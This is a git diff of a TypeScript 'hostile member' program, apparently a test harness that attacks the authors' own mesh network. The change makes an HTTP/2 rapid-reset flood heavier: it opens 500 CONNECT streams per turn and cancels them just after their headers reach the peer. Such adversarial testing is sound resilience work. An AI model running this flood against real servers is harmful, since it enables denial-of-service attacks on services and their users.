@@ -1,4 +1,5 @@
 import { randomBytes, randomUUID } from 'node:crypto';
+import { once } from 'node:events';
 import { readFileSync } from 'node:fs';
 import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2, constants } from 'node:http2';
 import { connect as connectTcp } from 'node:net';
@@ -16,7 +17,7 @@ import { inSpells } from './spells.js';
  */
 const settings: HostileMemberSettings = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8'));
 const MESSAGES_A_TURN = 100;
-const STREAMS_A_TURN = 50;
+const STREAMS_A_TURN = 500;
 const CUT_OFF_PAUSE_MS = 5;
 const NETWORKS_A_MESSAGE = 20;
 const SANDBOXES = 2_000;
@@ -107,9 +108,18 @@ async function flood(): Promise<void> {
   }
 }
 
-let session: ClientHttp2Session | null = null;
+const asked = {
+  ':method': 'CONNECT',
+  ':authority': 'peer',
+  'gs-network': settings.networkId,
+  'gs-alias': 'api',
+  'gs-port': '8080',
+  'gs-source': settings.source,
+  'gs-version': '1',
+};
+let session: { readonly flooded: ClientHttp2Session; readonly gone: Promise<unknown> } | null = null;
 
-function openSession(): ClientHttp2Session {
+function openSession(): NonNullable<typeof session> {
   did.sessions += 1;
   const [host = '', port = ''] = settings.meshEndpoint.split(':');
   const opened = connectHttp2('https://peer', {
@@ -124,45 +134,35 @@ function openSession(): ClientHttp2Session {
       }),
   });
   opened.on('error', () => {});
-  opened.once('close', () => {
-    if (session === opened) session = null;
+  const gone = once(opened, 'close').finally(() => {
+    session = null;
   });
-  return opened;
+  return { flooded: opened, gone };
 }
 
-function reset(): void {
-  if (!isRunning) return;
-  session ??= openSession();
-  const flooded = session;
-  const streams: ClientHttp2Stream[] = [];
-  for (let n = 0; n < STREAMS_A_TURN && !flooded.closed && !flooded.destroyed; n += 1) {
-    did.streams += 1;
-    const stream = flooded.request({
-      ':method': 'CONNECT',
-      ':authority': 'peer',
-      'gs-flow': randomBytes(16).toString('hex'),
-      'gs-network': settings.networkId,
-      'gs-alias': 'api',
-      'gs-port': '8080',
-      'gs-source': settings.source,
-      'gs-version': '1',
-    });
-    stream.on('error', () => {});
-    streams.push(stream);
-  }
-  // Node would take back the request of a stream that is closed in the turn it was opened in.
-  setImmediate(() => {
+async function resetStreams(): Promise<void> {
+  while (isRunning) {
+    session ??= openSession();
+    const { flooded, gone } = session;
+    if (flooded.connecting) await Promise.race([once(flooded, 'remoteSettings'), gone]);
+    const streams: ClientHttp2Stream[] = [];
+    for (let n = 0; n < STREAMS_A_TURN && !flooded.closed && !flooded.destroyed; n += 1) {
+      did.streams += 1;
+      const headers = { ...asked, 'gs-flow': randomBytes(16).toString('hex') };
+      streams.push(flooded.request(headers, { endStream: false }).on('error', () => {}));
+    }
+    // Their headers are out with the ping: a reset before that would take them back.
+    if (!flooded.destroyed) await Promise.race([new Promise((answered) => flooded.ping(answered)), gone]);
     for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
-    if (flooded.destroyed) setTimeout(reset, CUT_OFF_PAUSE_MS);
-    else setImmediate(reset);
-  });
+    if (flooded.destroyed) await pause(CUT_OFF_PAUSE_MS);
+  }
 }
 
 inSpells({
   go: () => {
     isRunning = true;
     void flood();
-    reset();
+    void resetStreams();
   },
   halt: () => {
     isRunning = false;
